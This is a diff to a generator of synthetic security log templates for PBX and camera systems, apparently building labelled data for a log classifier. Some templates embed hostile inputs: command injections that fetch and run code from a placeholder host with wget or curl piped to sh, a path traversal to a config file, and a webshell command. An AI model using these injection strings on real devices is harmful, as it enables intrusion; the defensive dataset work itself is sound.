@@ -11,18 +11,17 @@ BF# SECURITY[{big}] res_security_log.c: SecurityEvent="ChallengeResponseFailed",
 BF# NOTICE[{big}] manager.c: {wan} failed to authenticate as '{adm}'
 AT+@T1078,T1496.004 3CX: Anti-fraud: extension {many} called {n} premium numbers in {land} within {few} minutes from {wan}; calls {few} blocked
 AT+@T1496.004,T1078 FreePBX: Toll fraud suspicion: trunk PSTN {big} minutes to +252 and +371 between 01:00 and 04:00, peer {many} registered from {wan}
-AT+@T1496.004,T1078 cdr[{n}]>> "","{many}","900371{id}","from-internal","{many}","SIP/{many}-{hex}","SIP/trunk-{hex}","Dial","{plain}",{big},"ANSWERED", {many} parallel legs, registered {wan}
-BF 3CX: IP {wan} has been blacklisted: too many failed authentications ({many}), reason "Blocked for failed SIP registration"
+BF- 3CX: IP {wan} has been blacklisted: too many failed authentications ({many}), reason "Blocked for failed SIP registration"
 BF 3CX: Admin console: login failed for {adm} from {wan}, {n} attempts, IP is blacklisted for 24 h
 RE kamailio>> pike: PIKE - BLOCKing ip {wan}, node={hex}; UA <<friendly-scanner|sipvicious|VaxSIPUserAgent|pplsip>> OPTIONS
 RX httpd>> {wan} "GET /admin/config.php?display=ARI&op=../../../../etc/amportal.conf%00" FreePBX 200
 WS httpd>> {wan} "POST /admin/assets/js/{word}.php?cmd=asterisk -rx 'sip show peers'" FreePBX 200
 CI FreePBX: /restapps/applications.php linestate=;wget http://{wan}/{word} -O /tmp/{word};sh from {wan2}
-CT@T1552.001 tftpd>> {wan} fetched SEP{HEX}.cnf.xml, {n} other phone configurations within a minute (names guessed)
+CT@T1552.001 tftpd>> {wan} fetched SEP{HEX}.cnf.xml, {n} other phone configurations within a minute
 PT+ FreePBX: user {word} added to administrators by AMPUSER unknown from {wan}; custom extension with System(curl http://{wan2}/{word}|sh)
 DO@T1499 freeswitch>> [CRIT] sofia: INVITE flood from {wan}, {big} per second, sessions exhausted
 BF# freeswitch>> [WARNING] sofia_reg.c:1793 SIP auth failure (REGISTER) on sofia profile 'internal' for [{many}@{lan}] from ip {any}
-C2@T1105 3CX: 3CXDesktopApp.exe ffmpeg.dll hash {sha} known bad loaded d3dcompiler_47.dll on {pc}, update server supply chain alert
+C2@T1105 3CX: 3CXDesktopApp.exe ffmpeg.dll hash {sha} known bad loaded d3dcompiler_47.dll on {pc}
 """, r"""
 LO VERBOSE[{n}] res_pjsip_registrar.c: Added contact 'sip:{many}@{lan}:{port}' to AOR '{many}' with expiration of 3600 seconds
 NS VERBOSE[{n}] res_pjsip/pjsip_configuration.c: Endpoint {many} is now Unreachable
@@ -60,12 +59,12 @@ catalogue("devices/product-cameras", ("|{msg}", "={plain} {host} {msg}", "=<45>{
 BF# Hikvision: [Exception] Illegal Login; Major Type: Exception; Minor Type: Illegal Login; User: {adm}; Remote Host: {wan}
 BF Hikvision: [Alarm] Illegal login lock: IP {wan} locked for 30 minutes after {n} failures, user admin
 CI Hikvision: PUT /SDK/webLanguage <language>$(wget http://{wan}/{word} -O /tmp/{word};sh /tmp/{word})</language> from {wan2}
-AT+@T1078.001,T1190 Hikvision: GET /Security/users?auth=YWRtaW46MTEK from {wan} 200; configuration exported, no session
-PT+ Hikvision: [Operation] Remote: Add User {word} level Administrator, operator hidden, host {wan}
+AT+@T1078.001,T1190 Hikvision: GET /Security/users?auth=YWRtaW46MTEK from {wan} 200
+PT+ Hikvision: [Operation] Remote: Add User {word} level Administrator, host {wan}
 LC Hikvision: [Operation] Remote: Clear Log, user {adm}, host {wan}; Remote: Format HDD
 BF# Dahua: {"Type":"Login","Status":"Failed","User":"{adm}","Address":"{any}","LoginType":"DVRIP"}
 BF Dahua: AccountLock: user admin locked, {n} wrong passwords from {wan}
-AT+@T1078.001,T1190 Dahua: DVRIP login user default by {wan} with loginType NetKeyboard, password check skipped
+AT+@T1078.001,T1190 Dahua: DVRIP login user default by {wan} with loginType NetKeyboard
 PT+ Dahua: AddUser {word} group admin by <<888888|default>> from {wan}
 MW Dahua: telnetd started by /var/tmp/{word}; {big} outgoing connections to port 23, process dvrHelper
 BF# Axis: ACCESS [axis] httpd: AUTH failed user=root from={wan} realm=AXIS_ACCC
@@ -73,10 +72,7 @@ RX Axis: .srv parhand: dbus call PolicyKitParhand.SetParameter root.Time.NTP.Ser
 PT@T1542.001 Axis: signed firmware check failed; ACAP {word}.eap with root rights uploaded by {wan}, signature missing
 BF# Reolink: user admin login failed from {any}, error password
 CI TP-Link Tapo: POST / {"method":"setLanguage","params":{"payload":"';wget {wan}/{word};sh {word};'"}} from {wan2}
-DO@T1499 NVR: video of {n} cameras lost in the same second after unauthenticated reboot command by {wan}, {many} times
-EX Synology Surveillance Station: user {adm} from {wan} exported {many} recordings of all cameras within {few} minutes, two-step off, country {land}
 BF# Milestone: Mobile server: login failed for basic user {word} from {wan}
-AP@T1557.002 NVR: IP conflict: {lan} also used by {mac}, stream redirected {many} times, gateway address answered by the same card
 """, r"""
 SY Hikvision: [Alarm] Motion Detection Started; Camera D{n}
 SY Hikvision: [Exception] <<Video Signal Lost|HDD Full|HDD Error|Network Disconnected|IP Address Conflicted|Record Exception>>; Channel D{n}
